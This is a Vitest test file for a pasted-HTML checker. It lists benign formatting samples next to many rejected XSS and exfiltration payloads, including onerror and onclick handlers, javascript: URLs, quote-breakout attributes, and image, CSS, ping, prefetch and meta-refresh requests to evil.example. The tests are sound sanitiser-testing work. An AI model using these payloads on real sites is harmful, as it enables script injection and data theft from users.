import { expect, test } from 'vitest';
import { isFormattedText } from './pasted-html.ts';

test.each([
  'plain text, 2 > 1',
  '<p>One <b>bold</b><br/>and <i>more</i></p>',
  '<h2>Title</h2><ul><li>a</li></ul><ol><li>b</li></ol>',
  '<table><tr><th colspan="2">a</th></tr><tr><td>1</td><td>2</td></tr></table>',
  '<a href="https://shop.example/a?b=1">here</a> <a href=\'mailto:ann@shop.example\'>Ann</a> <a href="#top">up</a>',
  '<SPAN>a</SPAN>',
  '&lt;img src=x&gt;',
])('formatted text: %s', (html) => expect(isFormattedText(html)).toBe(true));

test.each([
  '<img src="https://evil.example/?data=1">',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="https://evil.example/">',
  '<p onclick="steal()">x</p>',
  '<b\nonmouseover="x">x</b>',
  '<p style="background: url(https://evil.example/)">x</p>',
  '<p style="background-color: red; background:url(/logout)">x</p>',
  '<p style="position: fixed">x</p>',
  '<p style="color: red">x</p>',
  `<p style='font-family: "x'>x</p>`,
  '<a href="javascript:steal()">x</a>',
  '<a href=" javascript:steal()">x</a>',
  '<a href="data:text/html,x">x</a>',
  '<a href=https://shop.example onclick=x>x</a>',
  '<a ping="https://evil.example/" href="https://shop.example/">x</a>',
  '<a href="https://shop.example/"onclick="x">x</a>',
  `<a href="#'>x" onmouseover="steal()">y</a>`,
  `<a href='#">x' onmouseover='steal()'>y</a>`,
  '<<b>img src="https://evil.example/">',
  '<script>steal()</script>',
  '<style>@import "https://evil.example/"</style>',
  '<iframe srcdoc="x"></iframe>',
  '<svg><image href="https://evil.example/"/></svg>',
  '<table background="https://evil.example/"><tr><td>x</td></tr></table>',
  '<video poster="https://evil.example/">',
  '<link rel="prefetch" href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<!-- <img src=x> -->',
  '<math><mtext></mtext></math>',
])('more than that: %s', (html) => expect(isFormattedText(html)).toBe(false));

test('a long one is read in one go', () => {
  for (const html of [
    `<b${' '.repeat(100_000)}x`,
    `<p style="color:${' '.repeat(100_000)}`,
    '<b '.repeat(50_000),
  ])
    expect(isFormattedText(html)).toBe(false);
});
